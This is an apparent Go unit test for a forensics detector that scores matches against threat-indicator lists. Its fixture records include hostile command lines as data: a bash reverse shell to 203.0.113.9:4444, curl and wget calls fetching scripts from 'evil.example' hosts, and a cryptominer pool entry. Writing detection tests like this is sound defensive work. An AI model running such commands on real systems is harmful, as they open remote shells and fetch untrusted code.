package detect

import (
	"os"
	"path/filepath"
	"testing"

	"icecore/forensics/indicators"
	"icecore/forensics/model"
)

// TestKnownIndicators: what lists name, in what kind of record, and its twin.
func TestKnownIndicators(t *testing.T) {
	file := filepath.Join(t.TempDir(), "list.txt")
	if err := os.WriteFile(file, []byte("203.0.113.9;c2\nevil.example\nhttp://host.example/x.sh\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	set, err := indicators.Load([]string{file})
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		name, record string
		installed    bool
		want         Level
	}{
		{"a URL in a job", "cron.job command=curl http://a.evil.example/y; urls=http://a.evil.example/y; path=/etc/cron.d/x", false, High},
		{"the URL itself, typed", "history.command command=wget http://host.example/x.sh; urls=http://host.example/x.sh; path=/root/.bash_history", false, Medium},
		{"another file of its host", "history.command command=wget http://host.example/y.sh; urls=http://host.example/y.sh; path=/root/.bash_history", false, None},
		{"an address in a command", "history.command command=bash -i >& /dev/tcp/203.0.113.9/4444 0>&1; shell=bash; path=/root/.bash_history", false, Medium},
		{"an accepted login", "auth.login address=203.0.113.9; user=root; method=password; path=/var/log/auth.log", false, High},
		{"a login from elsewhere", "auth.login address=203.0.113.10; user=ana; method=publickey; path=/var/log/auth.log", false, None},
		{"failed logins", "auth.failures address=203.0.113.9; count=3; path=/var/log/auth.log", false, Low},
		{"the pool of a miner", "miner.config pool=evil.example:3333; host=evil.example; path=/opt/c.json", false, High},
		{"a block list", "hosts.entry address=0.0.0.0; names=evil.example; nowhere=yes; path=/etc/hosts", false, Low},
		{"a file of a package", "systemd.exec command=curl http://evil.example; urls=http://evil.example; path=/usr/lib/systemd/system/x.service", true, Low},
		{"a name within another", "cron.job command=curl http://notevil.example/y; urls=http://notevil.example/y; path=/etc/cron.d/x", false, None},
		{"a file by its digest", "indicator.match type=sha256; value=00; list=l:1; file_type=elf; path=/opt/x", false, High},
		{"by a digest of little score", "indicator.match type=md5; value=00; score=40; list=l:1; file_type=elf; path=/opt/x", false, Low},
		{"by its path", "indicator.match type=path; value=/x; score=80; list=l:1; file_type=elf; path=/opt/x", false, Medium},
		{"by the path of a package", "indicator.match type=path; value=/x; score=80; list=l:1; owner=x; file_type=elf; path=/opt/x", false, Low},
		{"a note by its digest", "indicator.match type=md5; value=00; list=l:1; file_type=text; path=/root/notes.md", false, Low},
	} {
		t.Run(tt.name, func(t *testing.T) {
			rec := record(t, tt.record)
			rec.ID = "R-000001"
			r, err := ours()
			if err != nil {
				t.Fatal(err)
			}
			res, err := r.Run(t.Context(), &Input{
				Records: []model.Record{rec}, Indicators: set,
				Installed: func(string, string) bool { return tt.installed },
			})
			if err != nil {
				t.Fatal(err)
			}
			got := None
			for _, f := range res.Findings {
				named := f.Rule == "known_indicator"
				for _, d := range f.Details {
					named = named || d.ID == "finding.also" && d.Param("rule") == "known_indicator"
				}
				if named {
					got = f.Level
				}
			}
			if got != tt.want {
				t.Errorf("%s, want %s: %+v", got, tt.want, res.Findings)
			}
		})
	}
}
